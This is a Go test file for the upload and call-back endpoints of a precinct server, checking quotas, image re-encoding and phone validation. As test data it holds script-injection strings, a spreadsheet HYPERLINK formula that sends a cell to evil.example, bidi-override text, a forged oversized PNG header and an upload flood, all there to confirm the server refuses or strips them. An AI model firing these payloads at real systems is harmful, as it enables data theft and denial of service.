package server_test

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"net/http"
	"strings"
	"testing"

	"caucus/internal/server/servertest"
	"caucus/internal/store"
)

// post sends body with a content type and a chair's token and returns the status and body.
func post(t *testing.T, env *servertest.Env, path, ctype, token string, body []byte) (int, []byte) {
	t.Helper()
	req, err := http.NewRequest("POST", env.URL+path, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", ctype)
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, b
}

// worksheet is a small real image, different for each seed.
func worksheet(seed int) *image.NRGBA {
	m := image.NewNRGBA(image.Rect(0, 0, 64, 48))
	for y := range 48 {
		for x := range 64 {
			m.Set(x, y, color.NRGBA{uint8(x * 4), uint8(y * 5), uint8(seed), 255})
		}
	}
	return m
}

func encodeJPEG(t *testing.T, m image.Image) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, m, &jpeg.Options{Quality: 90}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func encodePNG(t *testing.T, m image.Image) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, m); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

type photoAnswer struct {
	SHA256 string `json:"sha256"`
	Bytes  int    `json:"bytes"`
	Code   string `json:"code"`
	Error  string `json:"error"`
}

// TestPhotoFlood is the flood a review sent: 80 uploads of 2 MiB each from one chair's session
// in a burst. Each is a valid JPEG padded to 2 MiB after its end (bytes a decoder ignores); the
// first MaxPhotosPerPrecinct are stored, re-encoded (so without the padding), and every one
// past the quota is refused with 429 and stores nothing. Another precinct still has its quota.
func TestPhotoFlood(t *testing.T) {
	env := servertest.Start(t, servertest.Options{Precincts: 3})
	tok := env.Login("p0001")
	stored, refused := 0, 0
	for i := range 80 {
		body := encodeJPEG(t, worksheet(i))
		body = append(body, bytes.Repeat([]byte("<script>alert(1)</script>"), store.MaxPhotoBytes)[:store.MaxPhotoBytes-len(body)]...)
		status, b := post(t, env, "/api/v1/photos", "image/jpeg", tok, body)
		var a photoAnswer
		json.Unmarshal(b, &a)
		switch status {
		case http.StatusCreated:
			stored++
			if a.Bytes >= 64<<10 {
				t.Errorf("photo %d stored as %d bytes: the padding was kept", i, a.Bytes)
			}
		case http.StatusTooManyRequests:
			refused++
			if a.Code != "quota" || !strings.Contains(a.Error, "photos") {
				t.Errorf("photo %d refused with %s", i, b)
			}
		default:
			t.Fatalf("photo %d: %d %s", i, status, b)
		}
	}
	if stored != store.MaxPhotosPerPrecinct || refused != 80-store.MaxPhotosPerPrecinct {
		t.Errorf("%d stored, %d refused; want %d and %d", stored, refused, store.MaxPhotosPerPrecinct, 80-store.MaxPhotosPerPrecinct)
	}
	n, total, err := env.DB.PhotoUsage(t.Context(), "p0001")
	if err != nil || n != store.MaxPhotosPerPrecinct || total > int64(n)*(64<<10) {
		t.Errorf("p0001 has %d photos of %d bytes stored, %v", n, total, err)
	}
	if status, b := post(t, env, "/api/v1/photos", "image/jpeg", env.Login("p0002"), encodeJPEG(t, worksheet(1000))); status != http.StatusCreated {
		t.Errorf("another precinct's photo: %d %s", status, b)
	}
}

// pngChunk is one PNG chunk with its CRC.
func pngChunk(kind string, data []byte) []byte {
	var b bytes.Buffer
	binary.Write(&b, binary.BigEndian, uint32(len(data)))
	b.WriteString(kind)
	b.Write(data)
	binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(kind), data...)))
	return b.Bytes()
}

// TestPhotoContent: what is stored is a JPEG the server encoded from the pixels it decoded.
// A JPEG header followed by a script is refused (it does not decode); a real JPEG carrying a
// script in a comment segment, or a PNG carrying one in a text chunk, is stored without it; an
// image whose header claims more pixels than allowed is refused before it is decoded; a photo
// sent under the other type, or with a type that only starts like one, is refused.
func TestPhotoContent(t *testing.T) {
	env := servertest.Start(t, servertest.Options{Precincts: 3})
	tok := env.Login("p0001")
	script := []byte("<script>alert(document.cookie)</script>")
	good := encodeJPEG(t, worksheet(1))
	// A comment segment (FF FE) right after SOI, holding the script.
	withComment := append([]byte{0xff, 0xd8, 0xff, 0xfe, 0, byte(len(script) + 2)}, script...)
	withComment = append(withComment, good[2:]...)
	pngGood := encodePNG(t, worksheet(2))
	// A tEXt chunk after IHDR (8-byte signature + 25-byte IHDR chunk).
	pngText := append(append(append([]byte{}, pngGood[:33]...), pngChunk("tEXt", append([]byte("Comment\x00"), script...))...), pngGood[33:]...)
	// A PNG that says it is 20000 × 20000 pixels: refused from its header.
	bomb := append([]byte{}, pngGood...)
	binary.BigEndian.PutUint32(bomb[16:], 20000)
	binary.BigEndian.PutUint32(bomb[20:], 20000)
	binary.BigEndian.PutUint32(bomb[29:], crc32.ChecksumIEEE(bomb[12:29]))
	translucent := worksheet(3)
	for i := 3; i < len(translucent.Pix); i += 4 {
		translucent.Pix[i] = 0 // fully transparent: laid over white, not black
	}
	tests := []struct {
		name, ctype string
		body        []byte
		status      int
		code        string
	}{
		{"JPEG header then a script", "image/jpeg", append([]byte{0xff, 0xd8, 0xff, 0xe0, 0, 16, 'J', 'F', 'I', 'F', 0}, script...), 400, "bad_photo"},
		{"PNG signature then a script", "image/png", append([]byte("\x89PNG\r\n\x1a\n"), script...), 400, "bad_photo"},
		{"JPEG with a script in a comment", "image/jpeg", withComment, 201, ""},
		{"PNG with a script in a text chunk", "image/png", pngText, 201, ""},
		{"transparent PNG", "image/png", encodePNG(t, translucent), 201, ""},
		{"JPEG sent as PNG", "image/png", encodeJPEG(t, worksheet(4)), 400, "bad_photo"},
		{"20000 × 20000 PNG", "image/png", bomb, 413, "too_large"},
		{"type with parameters", "image/jpeg; q=1", encodeJPEG(t, worksheet(5)), 201, ""},
		{"type that only starts like one", "image/jpegfoo", encodeJPEG(t, worksheet(6)), 415, "content_type"},
		{"type with junk after it", "image/png x", pngGood, 415, "content_type"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			status, b := post(t, env, "/api/v1/photos", tt.ctype, tok, tt.body)
			var a photoAnswer
			json.Unmarshal(b, &a)
			if status != tt.status || a.Code != tt.code {
				t.Fatalf("%d %s; want %d %q", status, b, tt.status, tt.code)
			}
			if status != http.StatusCreated {
				return
			}
			p, err := env.DB.Photo(t.Context(), a.SHA256)
			if err != nil {
				t.Fatal(err)
			}
			if p.ContentType != "image/jpeg" || bytes.Contains(p.Data, []byte("<script")) {
				t.Fatalf("stored %s with a script: %v", p.ContentType, bytes.Contains(p.Data, []byte("<script")))
			}
			img, err := jpeg.Decode(bytes.NewReader(p.Data))
			if err != nil || img.Bounds().Dx() != 64 || img.Bounds().Dy() != 48 {
				t.Fatalf("stored photo does not decode as the 64 × 48 image: %v", err)
			}
			if tt.name == "transparent PNG" {
				if r, g, b, _ := img.At(0, 0).RGBA(); r>>8 < 240 || g>>8 < 240 || b>>8 < 240 {
					t.Errorf("a transparent pixel stored as %d,%d,%d, not white", r>>8, g>>8, b>>8)
				}
			}
		})
	}
	// The same image sent again is the same stored photo: re-encoding is deterministic.
	_, b1 := post(t, env, "/api/v1/photos", "image/jpeg", tok, good)
	status, b2 := post(t, env, "/api/v1/photos", "image/jpeg", tok, good)
	if status != http.StatusOK || !bytes.Equal(b1[:bytes.IndexByte(b1, '}')], b2[:bytes.IndexByte(b2, '}')]) {
		t.Errorf("the same photo again: %d %s, first %s", status, b2, b1)
	}
}

// TestCallbackQuota: a precinct's call-back requests past MaxCallbacksPerWindow in the hour get
// 429 with a sentence for the chair, and store nothing.
func TestCallbackQuota(t *testing.T) {
	env := servertest.Start(t, servertest.Options{Precincts: 3})
	tok := env.Login("p0001")
	body := []byte(`{"precinct_id":"p0001","phone":"(515) 555-0101"}`)
	for i := range store.MaxCallbacksPerWindow {
		if status, b := post(t, env, "/api/v1/callbacks", "application/json", tok, body); status != http.StatusCreated {
			t.Fatalf("request %d: %d %s", i+1, status, b)
		}
	}
	for range 20 {
		status, b := post(t, env, "/api/v1/callbacks", "application/json", tok, body)
		if status != http.StatusTooManyRequests || !strings.Contains(string(b), `"code":"quota"`) {
			t.Fatalf("past the quota: %d %s", status, b)
		}
	}
	all, err := env.DB.Callbacks(t.Context(), 0, 100)
	if err != nil || len(all) != store.MaxCallbacksPerWindow || all[0].Phone != "+15155550101" {
		t.Fatalf("%d callbacks stored (%v), first %+v", len(all), err, all)
	}
}

// TestCallbackPhone: the phone field takes a US or an international number, stored as E.164,
// and refuses what is not one with a sentence naming the field.
func TestCallbackPhone(t *testing.T) {
	tests := []struct {
		phone string
		want  string // E.164, or "" when refused
	}{
		{"515-555-0101", "+15155550101"},
		{"(515) 555-0101", "+15155550101"},
		{"515.555.0101", "+15155550101"},
		{"1 515 555 0101", "+15155550101"},
		{"+1 515 555 0101", "+15155550101"},
		{"  5155550101  ", "+15155550101"},
		{"+44 20 7946 0958", "+442079460958"},
		{"+52 55 1234 5678", "+525512345678"},
		{"+49 30 1234567", "+49301234567"},
		{`=HYPERLINK("http://evil.example/?"&A1,"5155550101")`, ""},
		{"=5155550101", ""},
		{"<script>alert(1)</script>5155550101", ""},
		{"515555\u202e0101", ""},
		{"\u202e5155550101", ""},
		{"515-555-0101 ext 2", ""},
		{"5155550101\x00", ""},
		{"555-0101", ""},          // 7 digits: no area code
		{"015-555-0101", ""},      // an area code never starts with 0
		{"515-155-0101", ""},      // nor an exchange with 1
		{"+1 515 555 010", ""},    // +1 needs 10 digits more
		{"+0 123 456 789", ""},    // no country code starts with 0
		{"+123 4567", ""},         // under 8 digits
		{"+1234567890123456", ""}, // over 15
		{"++15155550101", ""},     // one + only
		{"5155550101+", ""},       // a + only at the start
		{"５１５５５５０１０１", ""},        // full-width digits are not digits here
		{"", ""},
	}
	env := servertest.Start(t, servertest.Options{Precincts: 100})
	for i, tt := range tests {
		t.Run(fmt.Sprintf("%q", tt.phone), func(t *testing.T) {
			precinct := fmt.Sprintf("p%04d", i) // its own precinct: no quota between cases
			body, _ := json.Marshal(map[string]string{"precinct_id": precinct, "phone": tt.phone})
			status, b := post(t, env, "/api/v1/callbacks", "application/json", env.Login(precinct), body)
			var a struct{ Phone, Code, Error string }
			json.Unmarshal(b, &a)
			if tt.want == "" {
				if status != http.StatusBadRequest || a.Code != "bad_phone" || !strings.HasPrefix(a.Error, "phone: ") {
					t.Fatalf("%d %s; want 400 bad_phone with a \"phone: …\" sentence", status, b)
				}
				return
			}
			if status != http.StatusCreated || a.Phone != tt.want {
				t.Fatalf("%d %s; want 201 with %s", status, b, tt.want)
			}
		})
	}
	// Notes: no invisible characters that reorder or hide text.
	for note, ok := range map[string]bool{"tie in the first round": true, "call after 8 👍🏽": true,
		"call \u202eme": false, "a\x1bb": false, "zero\u200bwidth": false} {
		body, _ := json.Marshal(map[string]string{"precinct_id": "p0099", "phone": "515-555-0199", "note": note})
		status, b := post(t, env, "/api/v1/callbacks", "application/json", env.Login("p0099"), body)
		if ok != (status == http.StatusCreated) || !ok && !strings.Contains(string(b), `"note: `) {
			t.Errorf("note %q: %d %s", note, status, b)
		}
	}
}
